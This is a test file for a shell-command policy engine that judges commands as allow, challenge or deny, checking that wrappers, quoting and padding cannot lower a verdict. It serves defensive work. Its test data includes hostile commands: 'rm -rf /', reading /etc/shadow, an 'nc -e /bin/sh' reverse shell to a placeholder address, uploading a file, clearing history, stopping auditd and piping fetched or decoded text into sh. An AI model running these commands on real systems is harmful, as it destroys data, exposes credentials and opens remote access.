// What holds for every text: it never throws, wrappers and quotes do not lower a verdict, hostile texts are bounded, rules combine.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the lines are shell text.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  analyse,
  compileRules,
  defaultRules,
  judge,
  parseRules,
  type Rule,
  unknownContext,
  type Verdict,
  verdicts,
} from './index.ts';
import { limits } from './limits.ts';

const rules = compileRules(defaultRules);
const verdictOf = (line: string): Verdict => judge(line, rules, unknownContext).verdict;
const ranked = (line: string): number => verdicts.indexOf(verdictOf(line));

const commands = [
  'rm -rf /',
  'cat /etc/shadow',
  'ls -la /srv',
  'systemctl stop auditd',
  'systemctl restart nginx',
  'history -c',
  'cp /etc/hosts /srv/hosts',
  'chmod 4755 /srv/x',
  'tee /etc/sudoers.d/x',
  'curl -T /srv/x https://example.org',
  'tar czf /srv/a.tgz /srv/data',
  'nc -e /bin/sh 192.0.2.1 99',
];

const wrappers: readonly ((line: string) => string)[] = [
  (line) => `sudo ${line}`,
  (line) => `doas ${line}`,
  (line) => `env A=1 ${line}`,
  (line) => `nice -n 10 ${line}`,
  (line) => `nohup ${line} &`,
  (line) => `timeout 5 ${line}`,
  (line) => `setsid ${line}`,
  (line) => `stdbuf -oL ${line}`,
  (line) => `ionice -c3 ${line}`,
  (line) => `command ${line}`,
  (line) => `exec ${line}`,
  (line) => `time ${line}`,
  (line) => `sh -c '${line}'`,
  (line) => `bash -lc "${line}"`,
  (line) => `eval '${line}'`,
  (line) => `( ${line} )`,
  (line) => `{ ${line}; }`,
  (line) => `true && ${line}`,
  (line) => `ls; ${line}`,
  (line) => `ls | ${line}`,
  (line) => `if true; then ${line}; fi`,
  (line) => `for i in 1 2; do ${line}; done`,
  (line) => `f() { ${line}; }; f`,
  (line) => `echo "$(${line})"`,
  (line) => `cat <(${line})`,
  (line) => `ssh host '${line}'`,
  (line) => `su - root -c '${line}'`,
  (line) => `xargs -a list ${line}`,
  (line) => `find . -exec ${line} \\;`,
  (line) => `watch -n1 '${line}'`,
  (line) => `script -qc '${line}' /dev/null`,
  (line) => `busybox ${line}`,
  (line) => `flock /run/lock.x ${line}`,
  (line) => `python3 -c 'import os; os.system("${line}")'`,
  (line) => `awk 'BEGIN { system("${line}") }'`,
];

describe('wrappers', () => {
  it.each(commands)('do not lower the verdict on %s (CMD-1)', (line) => {
    const alone = ranked(line);
    const lower = wrappers.map((wrap) => wrap(line)).filter((wrapped) => ranked(wrapped) < alone);
    expect(lower).toEqual([]);
  });

  it('do not lower it in any order (CMD-1)', () => {
    const nestable = wrappers.slice(0, 12);
    const chain = fc.array(fc.constantFrom(...nestable), { maxLength: 4 });
    fc.assert(
      fc.property(fc.constantFrom(...commands), chain, (line, around) => {
        const wrapped = around.reduce((inner, wrap) => wrap(inner.replace(/ &$/, '')), line);
        return ranked(wrapped) >= ranked(line);
      }),
      { numRuns: 200 },
    );
  });
});

describe('quoting', () => {
  const quotes: readonly ((word: string) => string)[] = [
    (word) => word,
    (word) => `'${word}'`,
    (word) => `"${word}"`,
    (word) => `\\${word}`,
    (word) => `${word.slice(0, 1)}''${word.slice(1)}`,
    (word) => `""${word}`,
    (word) => [...word].map((char) => `\\${char}`).join(''),
    (word) => `$'${[...word].map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`,
  ];

  it('any word does not change the verdict (CMD-1)', () => {
    const choice = fc.array(fc.constantFrom(...quotes), { minLength: 8, maxLength: 8 });
    fc.assert(
      fc.property(fc.constantFrom(...commands), choice, (line, chosen) => {
        const quoted = line.split(' ').map((word, at) => chosen[at % chosen.length]?.(word) ?? word);
        return verdictOf(quoted.join(' ')) === verdictOf(line);
      }),
      { numRuns: 400 },
    );
  });
});

describe('any text', () => {
  const token = fc.constantFrom(
    ...[
      '$(',
      ')',
      '`',
      '"',
      "'",
      '{',
      '}',
      '${',
      'x=',
      '|',
      '&&',
      ';',
      '<<E\n',
      '<(',
      '>',
      'rm',
      '-rf',
      '/',
      '*',
      '[',
      '~',
      '\\',
    ],
    ...[
      'if',
      'then',
      'fi',
      'for i in',
      'do',
      'done',
      'case',
      'esac',
      'f()',
      '$x',
      '$@',
      '!',
      '\n',
      'eval',
      'sh -c',
      'find',
      '-exec',
      '\\;',
    ],
  );
  const shellish = fc.array(token, { maxLength: 60 }).map((tokens) => tokens.join(' '));

  it.each([
    ['of shell words', shellish],
    ['of any characters', fc.string({ maxLength: 400, unit: 'binary' })],
  ])('%s is judged without a throw (CMD-1)', (_, texts) => {
    fc.assert(
      fc.property(texts, (text) => verdicts.includes(judge(text, rules, unknownContext).verdict)),
      { numRuns: 500 },
    );
  });
});

describe('a hostile text', () => {
  const deep = (open: string, close: string, times: number): string => `${open.repeat(times)}id${close.repeat(times)}`;
  const loops = 'for a in 1 2 3 4 5 6 7 8; do '.repeat(12);
  const texts: readonly (readonly [string, string])[] = [
    ['20,000 open substitutions', '$('.repeat(20_000)],
    ['deep substitutions', deep('$(', ')', 10_000)],
    ['deep subshells', deep('(', ')', 20_000)],
    ['deep backquotes', '`'.repeat(60_000)],
    ['deep parameters', '${x:-'.repeat(10_000)],
    ['a huge brace expansion', `rm ${'{a,b}'.repeat(40)}`],
    ['a brace expansion of numbers', 'echo {1..999999999}'],
    ['many braces', '{'.repeat(60_000)],
    ['many quotes', `echo ${"'a'".repeat(20_000)}`],
    ['many words', 'a '.repeat(32_000)],
    ['many commands', 'ls;'.repeat(21_000)],
    ['many pipes', `ls${'|cat'.repeat(16_000)}`],
    ['many variables', 'a=$a$a$a$a;'.repeat(5_900)],
    ['text that doubles', `a=xxxxxxxx;${'a=$a$a;'.repeat(200)}eval "$a"`],
    ['shells in shells', `${'sh -c "'.repeat(3_000)}id`],
    ['eval of eval', `x='eval "$x"'; eval "$x"`],
    ['functions that call each other', 'f(){ g;g;g; };g(){ h;h;h; };h(){ f;f;f; };f;f;f'],
    ['loops in loops', `${loops} echo $a$a ${'; done'.repeat(12)}`],
    ['stars', `cat ${'*a'.repeat(16_000)}`],
    ['stars in folders', `cat ${'/*a*'.repeat(400)}`],
    ['a long pattern for a program', `${'?'.repeat(30_000)} x`],
    ['code to look into', `python3 -c '${'os.system("x" '.repeat(4_000)}'`],
    ['awk to look into', `awk '${'|"a'.repeat(15_000)}'`],
    ['encodings in encodings', `echo ${'QUFB'.repeat(8_000)} ${'| base64 -d '.repeat(50)} | sh`],
    ['many here-documents', 'cat <<E\nx\nE\n'.repeat(4_000)],
    ['many redirections', `ls ${'> /srv/a '.repeat(7_000)}`],
    ['many files', `rm ${'/etc/a* '.repeat(8_000)}`],
    ['long slices', `x=${'a'.repeat(30_000)}; ${'echo ${x#*b};'.repeat(300)}`],
    ['many bodies for many addresses', `curl ${'-d @x '.repeat(4_000)}${'http://a '.repeat(3_000)}`],
    ['a long sed program', `sed '${'s/a/b/;'.repeat(8_000)}'`],
    ['a long awk program', `awk '${'system("a") '.repeat(5_000)}'`],
    ['a text changed over and over', `echo ${'a'.repeat(30_000)} ${'| tr a-z b-za'.repeat(2_000)} | sh`],
    ['a list for many', `{ ${'xargs ls;'.repeat(3_000)} } <<< '${'a '.repeat(15_000)}'`],
    ['many places to search', `find ${'a '.repeat(4_000)}${'-name x '.repeat(3_000)}`],
    ['a long function called often', `f(){ rm ${'a'.repeat(30_000)}; }; ${'f;'.repeat(10_000)}`],
    ['options without end', `sudo ${'-'.repeat(60_000)}`],
    ['set-id modes', `useradd ${'-o '.repeat(20_000)}`],
  ];

  it.each(texts)('%s costs at most 50 ms (CMD-1)', (_, text) => {
    const cost = Math.min(
      ...[1, 2, 3, 4, 5].map(() => {
        const before = process.cpuUsage();
        judge(text, rules, unknownContext);
        const { user, system } = process.cpuUsage(before);
        return (user + system) / 1_000;
      }),
    );
    expect(cost).toBeLessThan(50);
  });

  it.each([
    ['a list', `echo ${'a '.repeat(100)}/ | xargs -I{} rm -rf {}`],
    ['a program', `python3 -c '${'# '.repeat(5_000)}; import os; os.system("rm -rf /")'`],
    ['printed text', `printf '%s' '${' '.repeat(40_000)}rm -rf /' | sh`],
    ['lines that are read', `while read -r c; do $c; done <<'E'\n${'ls\n'.repeat(20)}rm -rf /\nE`],
    ['values of a branch', `x='rm -rf /'; ${'[ -f a ] && x=ls;'.repeat(3)}${'[ -f b ] && x=id$RANDOM;'.repeat(20)} $x`],
  ])('hides nothing behind a limit: %s (CMD-1)', (_, text) => {
    expect(verdictOf(text)).not.toBe('allow');
  });

  it('that is too long is denied, not judged in part (CMD-1)', () => {
    const judged = judge(`ls ${'x'.repeat(limits.textLength)}`, rules, unknownContext);
    expect(judged.verdict).toBe('deny');
    expect(judged.rules.map(({ id }) => id)).toEqual(['run.too-complex']);
  });

  it('that reaches a limit is denied even without a rule for it (CMD-1)', () => {
    expect(judge('ls;'.repeat(21_000), compileRules([]), unknownContext).verdict).toBe('deny');
  });
});

describe('rules', () => {
  const own = (rule: Partial<Rule>): Rule => ({
    id: 'own.rule',
    verdict: 'allow',
    techniques: [],
    explanation: 'Own.',
    safer: '',
    any: [{ effect: 'run', target: ['crontab'] }],
    ...rule,
  });
  const judgedWith = (line: string, ...more: readonly Rule[]): string =>
    judge(line, compileRules([...defaultRules, ...more]), unknownContext).verdict;

  it('let an allow lift a challenge on the same effect, and only that (CMD-1)', () => {
    const allow = own({ any: [{ effect: 'schedule', target: ['crontab'] }] });
    expect(judgedWith('crontab -e')).toBe('challenge');
    expect(judgedWith('crontab -e', allow)).toBe('allow');
    expect(judgedWith('crontab -e; reboot', allow)).toBe('challenge');
  });

  it('let no allow lift a deny (CMD-1)', () => {
    expect(judgedWith('rm -rf /', own({ any: [{ effect: 'delete' }] }))).toBe('deny');
  });

  it('count different effects with atLeast (CMD-1)', () => {
    const many = own({ verdict: 'deny', any: [{ effect: 'write', target: ['/srv/**'] }], atLeast: 3 });
    expect(judgedWith('touch /srv/a /srv/b', many)).toBe('allow');
    expect(judgedWith('touch /srv/a /srv/b /srv/c', many)).toBe('deny');
  });

  it('know the account by which something is done (CMD-1)', () => {
    const asRoot = own({ verdict: 'deny', any: [{ effect: 'write', target: ['/srv/**'], as: ['root'] }] });
    expect(judgedWith('touch /srv/a', asRoot)).toBe('allow');
    expect(judgedWith('sudo touch /srv/a', asRoot)).toBe('deny');
  });

  it('raise the risk with each that holds (MON-1)', () => {
    const risk = (line: string): number => judge(line, rules, unknownContext).risk;
    expect(risk('ls')).toBe(0);
    expect(risk('reboot')).toBeGreaterThan(0);
    expect(risk('rm -rf /')).toBeGreaterThan(risk('reboot'));
    expect(risk('history -c; rm -rf /; curl https://example.org | sh')).toBeGreaterThan(risk('rm -rf /'));
  });
});

describe('a file of own rules', () => {
  const mistakes = (text: string): readonly string[] => {
    const parsed = parseRules(text, defaultRules);
    return parsed.ok ? [] : parsed.error.map(({ path }) => path);
  };
  const rule = (more: object): string =>
    JSON.stringify({ rules: [{ id: 'own.x', verdict: 'deny', explanation: 'x', any: [{ effect: 'read' }], ...more }] });

  it.each([
    ['{', ''],
    ['{"rule": []}', ''],
    [rule({ verdict: 'maybe' }), 'rules[0].verdict'],
    [rule({ id: 'Own X' }), 'rules[0].id'],
    [rule({ techniques: ['1070'] }), 'rules[0].techniques[0]'],
    [rule({ any: [{ effect: 'reed' }] }), 'rules[0].any[0].effect'],
    [rule({ any: [{ effect: 'read', path: ['x'] }] }), 'rules[0].any[0]'],
    [rule({ any: undefined }), 'rules[0]'],
    ['{"disable": ["destroy.sistem"]}', 'disable[0]'],
  ])('is refused with the place of the mistake: %s', (text, path) => {
    expect(mistakes(text)).toContain(path);
  });

  it('replaces a shipped rule under its id and switches others off (CMD-1)', () => {
    const text = JSON.stringify({
      disable: ['power.off'],
      rules: [{ id: 'persist.schedule', verdict: 'deny', explanation: 'No.', any: [{ effect: 'schedule' }] }],
    });
    const parsed = parseRules(text, defaultRules);
    const compiled = compileRules(parsed.ok ? parsed.value : []);
    expect(judge('reboot', compiled, unknownContext).verdict).toBe('allow');
    expect(judge('crontab -e', compiled, unknownContext).verdict).toBe('deny');
  });
});

describe('a text with a syntax error', () => {
  it.each(['ls "unfinished', 'if true; then ls', 'ls )', 'bash -c "ls )"', 'eval "for x in; do"'])(
    'is never allowed as if it had been read: %s (CMD-1)',
    (line) => {
      const judged = judge(line, rules, unknownContext);
      expect(judged.verdict).not.toBe('allow');
      expect(judged.rules.map(({ id }) => id)).toContain('run.syntax-error');
    },
  );
});

describe('an analysis', () => {
  const of = (line: string, kind: string): readonly string[] =>
    analyse(line, unknownContext)
      .effects.filter((effect) => effect.kind === kind)
      .map(({ target }) => target);

  it.each([
    ['cp a b', 'read', ['/home/user/a']],
    ['cd /srv; rm ../x', 'delete', ['/x']],
    ['cat ~root/x', 'read', ['/root/x']],
    ['cat <<< x > "out put"', 'write', ['/home/user/out put']],
    ['curl https://example.org/a', 'download', ['https://example.org/a']],
    ['sudo -u app touch /srv/a', 'become', ['app']],
    ['LD_PRELOAD=/x ls', 'set', ['LD_PRELOAD']],
    ['for f in a b; do rm $f; done', 'delete', ['/home/user/a', '/home/user/b']],
    ['[ -n "$y" ] && x=/a || x=/b; rm $x', 'delete', ['/a', '/b']],
    [
      'x=a.tar.gz; rm ${x%.gz} ${x%%.*} ${x/a/b}',
      'delete',
      ['/home/user/a.tar', '/home/user/a', '/home/user/b.tar.gz'],
    ],
    ['set -- rm /a; "$@"', 'delete', ['/a']],
    ['read -r c <<< "rm /a"; $c', 'delete', ['/a']],
    ['a=(rm /a); "${a[@]}"', 'delete', ['/a']],
    ['alias x="rm /a"; x', 'delete', ['/a']],
    ['printf "rm %s\\n" /a | sh', 'delete', ['/a']],
    ['tee >(sh) <<< x; rm /a', 'delete', ['/a']],
    ['find /srv -name "*.tmp" -delete', 'delete', ['/srv/**/*.tmp']],
    ['systemctl stop --now nginx.service', 'service', ['nginx']],
  ])('of %s finds %s %j (CMD-1)', (line, kind, targets) => {
    expect([...new Set(of(line, kind))]).toEqual(targets);
  });

  it('says what it does not know (CMD-1)', () => {
    const [effect] = analyse('rm "$x"', unknownContext).effects.filter(({ kind }) => kind === 'delete');
    expect(effect).toMatchObject({ target: '$x', isKnown: false });
    expect(of('$tool --run', 'unknown')).toEqual(['$tool']);
  });
});
